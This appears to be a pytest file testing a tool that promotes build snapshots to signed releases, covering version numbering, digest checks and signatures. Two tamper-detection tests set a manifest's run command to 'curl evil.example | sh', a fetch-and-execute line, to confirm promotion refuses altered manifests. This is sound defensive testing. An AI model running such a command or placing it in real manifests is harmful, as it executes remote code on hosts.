"""A promotion copies a snapshot to the next release, once."""

import io
from collections.abc import Collection, Mapping
from dataclasses import replace

import pytest

from lifecycle.application.delivery.promote import promote
from lifecycle.application.ports.phases import Promoted
from lifecycle.domain.errors import DigestMismatch, ForeignObject, InvalidValue, Refused, Unknown
from lifecycle.domain.service.attestation import Attestation
from lifecycle.domain.service.manifest import Run
from lifecycle.domain.service.published import Published
from lifecycle.domain.service.trusted_keys import verified
from lifecycle.gateways import p256
from tests.fakes.artifacts import MemoryArtifacts
from tests.fakes.catalogue import MemoryCatalogue
from tests.fakes.publishing import build
from tests.fakes.signer import SIGNER
from tests.support.rollout import manifest
from tests.support.ungated import ungated

SNAPSHOT = "1.0.0-20261123100000-aaaaaaa"
OTHER = "1.0.0-20261123110000-bbbbbbb"
MADE = manifest(SNAPSHOT)


class Contested(MemoryCatalogue):
    """A catalogue in which others claim the next versions first."""

    def __init__(self, races: int) -> None:
        super().__init__()
        self.races = races

    def claim_release(self, service: str, snapshot: str, release: str, withdrawn: Collection[str] = ()) -> str | None:
        if self.races:
            self.races -= 1
            super().claim_release(service, f"of another {self.races}", release)
            return None
        return super().claim_release(service, snapshot, release, withdrawn)


class Shop:
    """A catalogue with two recorded snapshots, and their artifacts."""

    def __init__(self, catalogue: MemoryCatalogue | None = None) -> None:
        self.catalogue = catalogue or MemoryCatalogue()
        self.artifacts = MemoryArtifacts()
        for version in (SNAPSHOT, OTHER):
            build(self.artifacts, self.catalogue, manifest(version), version.encode())

    def promote(self, snapshot: str = SNAPSHOT, wanted: str = "") -> Promoted:
        return promote(self.catalogue, self.artifacts, SIGNER, "hello", snapshot, "ada", ungated, wanted)

    def releases(self) -> Mapping[str, str]:
        return self.catalogue.releases("hello")


def test_release_has_the_bytes_of_its_snapshot_and_says_who_promoted_it() -> None:
    shop = Shop()
    assert shop.promote() == Promoted("hello", SNAPSHOT, "1.0.0", MADE.digest, True)
    copy = shop.artifacts.manifest("hello", "1.0.0")
    assert (copy.version, copy.snapshot, copy.digest) == ("1.0.0", SNAPSHOT, MADE.digest)
    assert copy.builder == "build-1, promoted by ada"
    assert shop.artifacts.open_artifact("hello", "1.0.0").read() == SNAPSHOT.encode()
    assert shop.releases() == {"1.0.0": SNAPSHOT}


def test_second_promotion_of_a_snapshot_returns_the_first_release() -> None:
    shop = Shop()
    shop.promote()
    assert shop.promote() == Promoted("hello", SNAPSHOT, "1.0.0", MADE.digest, False)
    assert shop.releases() == {"1.0.0": SNAPSHOT}


def test_another_snapshot_gets_the_next_version() -> None:
    shop = Shop()
    shop.promote()
    found = shop.promote(OTHER)
    assert (found.release, found.created) == ("1.0.1", True)


def test_release_of_an_older_line_gets_the_version_that_its_person_names() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", "of another", "2.0.0")
    found = shop.promote(wanted="1.0.4")
    assert (found.release, found.note) == ("1.0.4", "declared 1.0.0, but 1.0.4 is wanted")
    assert shop.artifacts.manifest("hello", "1.0.4").version == "1.0.4"
    assert shop.promote(OTHER).release == "2.0.1"


def test_a_named_version_that_is_taken_is_refused_with_the_next_free_one() -> None:
    shop = Shop()
    shop.promote(wanted="1.0.4")
    with pytest.raises(Refused, match=rf"1\.0\.4 is the release of {SNAPSHOT}; the next free .* is 1\.0\.5"):
        shop.promote(OTHER, wanted="1.0.4")
    assert shop.releases() == {"1.0.4": SNAPSHOT}


def test_a_promoted_snapshot_gets_no_second_version() -> None:
    shop = Shop()
    shop.promote()
    with pytest.raises(Refused, match=r"it was promoted before as 1\.0\.0, and a snapshot has one release"):
        shop.promote(wanted="1.0.4")
    assert shop.promote(wanted="1.0.0").created is False
    assert shop.releases() == {"1.0.0": SNAPSHOT}


def test_promotion_says_why_its_release_has_not_the_declared_version() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", "of another", "11.4.2")
    assert shop.promote().note == "declared 1.0.0, but 11.4.2 is released: this becomes 11.4.3"


@pytest.mark.parametrize("wanted", ["1.0", "1.0.0-20261123100000-aaaaaaa", "v1.0.0"])
def test_a_named_version_that_no_release_can_have_is_refused(wanted: str) -> None:
    with pytest.raises(InvalidValue):
        Shop().promote(wanted=wanted)


def test_promotion_that_lost_its_version_to_another_takes_the_next() -> None:
    shop = Shop(Contested(31))
    assert shop.promote().release == "1.0.31"


def test_promotion_that_lost_its_version_32_times_is_refused() -> None:
    shop = Shop(Contested(32))
    with pytest.raises(Refused, match=f"the promotion of hello {SNAPSHOT} is refused: 32 other promotions"):
        shop.promote()


def test_snapshot_that_was_not_recorded_is_not_promoted() -> None:
    shop, stored = Shop(), "1.0.0-20261123120000-ccccccc"
    shop.artifacts.publish(manifest(stored), io.BytesIO(stored.encode()))
    with pytest.raises(Unknown, match="See `lifecycle snapshots hello`"):
        shop.promote(stored)
    assert shop.releases() == {}


def test_release_is_not_promoted() -> None:
    with pytest.raises(InvalidValue, match=r"'1\.0\.0' is not a snapshot version"):
        Shop().promote("1.0.0")


def test_snapshot_whose_manifest_was_exchanged_is_not_promoted() -> None:
    shop = Shop()
    shop.catalogue = MemoryCatalogue()
    shop.catalogue.record_snapshot("hello", SNAPSHOT, {"digest": "e" * 64})
    stored = shop.artifacts.stored_manifest("hello", SNAPSHOT)
    shop.catalogue.record_published("hello", SNAPSHOT, Published("e" * 64, stored.sha256))
    with pytest.raises(DigestMismatch, match=f"the manifest of hello {SNAPSHOT} was .* sha256 {'e' * 64}, found"):
        shop.promote()
    assert shop.releases() == {}


def test_digests_of_a_release_are_recorded_with_who_promoted_it() -> None:
    shop = Shop()
    shop.promote()
    stored = shop.artifacts.stored_manifest("hello", "1.0.0")
    assert shop.catalogue.published("hello", "1.0.0") == Published(MADE.digest, stored.sha256, "ada")


@pytest.mark.parametrize("recorded", [None, Published(MADE.digest)], ids=["nothing", "the artifact only"])
def test_snapshot_whose_manifest_nobody_recorded_is_not_promoted(recorded: Published | None) -> None:
    """Its manifest may be any that names the right artifact, with another command and an empty policy."""
    shop = Shop()
    shop.catalogue = MemoryCatalogue()
    shop.catalogue.record_snapshot("hello", SNAPSHOT, {"digest": MADE.digest})
    if recorded:
        shop.catalogue.record_published("hello", SNAPSHOT, recorded)
    with pytest.raises(Refused, match="no digest of its manifest is on record"):
        shop.promote()
    assert shop.releases() == {}


def test_snapshot_whose_command_was_exchanged_is_not_promoted() -> None:
    shop = Shop()
    shop.catalogue = MemoryCatalogue()
    shop.catalogue.record_snapshot("hello", SNAPSHOT, {"digest": MADE.digest})
    shop.catalogue.record_published("hello", SNAPSHOT, Published(MADE.digest, "b" * 64))
    with pytest.raises(DigestMismatch, match=f"the manifest of hello {SNAPSHOT} was .* sha256 {'b' * 64}, found"):
        shop.promote()
    assert shop.releases() == {}


def test_promotion_that_another_person_repeats_writes_what_was_recorded_first() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
    copy = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, builder="build-1, promoted by grace")
    recorded = Published(MADE.digest, shop.artifacts.manifest_digest(copy), "grace")
    shop.catalogue.record_published("hello", "1.0.0", recorded)
    assert shop.promote() == Promoted("hello", SNAPSHOT, "1.0.0", MADE.digest, False)
    assert shop.artifacts.manifest("hello", "1.0.0") == copy


def test_release_from_before_digests_were_recorded_is_recorded_as_it_is() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
    copy = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, builder="build-1, promoted by grace")
    shop.artifacts.publish(copy, io.BytesIO(SNAPSHOT.encode()))
    assert not shop.promote().created
    assert shop.catalogue.published("hello", "1.0.0") == Published(MADE.digest, shop.artifacts.manifest_digest(copy))


def test_release_from_before_that_is_not_of_its_snapshot_is_not_recorded() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
    other = replace(MADE, version="1.0.0", snapshot=SNAPSHOT, run=Run("curl evil.example | sh", 8080))
    shop.artifacts.publish(other, io.BytesIO(SNAPSHOT.encode()))
    with pytest.raises(DigestMismatch, match=r"the manifest of hello 1\.0\.0"):
        shop.promote()
    assert shop.catalogue.published("hello", "1.0.0") is None


def test_release_of_another_version_of_lifecycle_is_not_written_differently() -> None:
    shop = Shop()
    shop.catalogue.claim_release("hello", SNAPSHOT, "1.0.0")
    shop.catalogue.record_published("hello", "1.0.0", Published(MADE.digest, "c" * 64, "grace"))
    with pytest.raises(Refused, match="push its commit again, and promote that snapshot"):
        shop.promote()


def signed(shop: Shop, release: str = "1.0.0") -> Attestation:
    """Return what is signed of a release, as a host sees it."""
    stored = shop.artifacts.stored_manifest("hello", release)
    wanted = Attestation("hello", release, stored.manifest.digest, stored.sha256)
    return verified(shop.artifacts.envelope("hello", release), wanted, [SIGNER.trusted], p256.verify)


def test_release_is_signed_for_its_service_version_and_bytes() -> None:
    shop = Shop()
    shop.promote()
    found = signed(shop)
    assert (found.commit, found.run, found.snapshot) == (MADE.commit, "build-1", SNAPSHOT)
    assert found.promoted_by == "ada"


def test_promotion_again_keeps_the_first_signature() -> None:
    shop = Shop()
    shop.promote()
    first = shop.artifacts.envelope("hello", "1.0.0")
    shop.promote()
    assert shop.artifacts.envelope("hello", "1.0.0") == first


def test_release_from_before_signatures_is_signed_when_it_is_promoted_again() -> None:
    shop = Shop()
    shop.promote()
    shop.artifacts.replace_envelope("hello", "1.0.0", "")
    assert not shop.promote().created
    assert signed(shop).promoted_by == "ada"


@pytest.mark.parametrize("there", ["rubbish", "of another version"])
def test_envelope_of_something_else_is_not_taken_for_the_releases_own(there: str) -> None:
    shop = Shop()
    shop.promote()
    shop.promote(OTHER)
    text = shop.artifacts.envelope("hello", "1.0.1") if there == "of another version" else there
    shop.artifacts.replace_envelope("hello", "1.0.0", text)
    with pytest.raises(ForeignObject, match=r"the envelope of hello 1\.0\.0 exists with other bytes"):
        shop.promote()


def test_manifest_that_was_replaced_after_its_promotion_is_not_signed() -> None:
    shop = Shop()
    shop.promote()
    shop.artifacts.replace_envelope("hello", "1.0.0", "")
    own = shop.artifacts.manifest("hello", "1.0.0")
    shop.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example | sh")))
    with pytest.raises((DigestMismatch, ForeignObject)):
        shop.promote()
    assert shop.artifacts.envelope("hello", "1.0.0") == ""
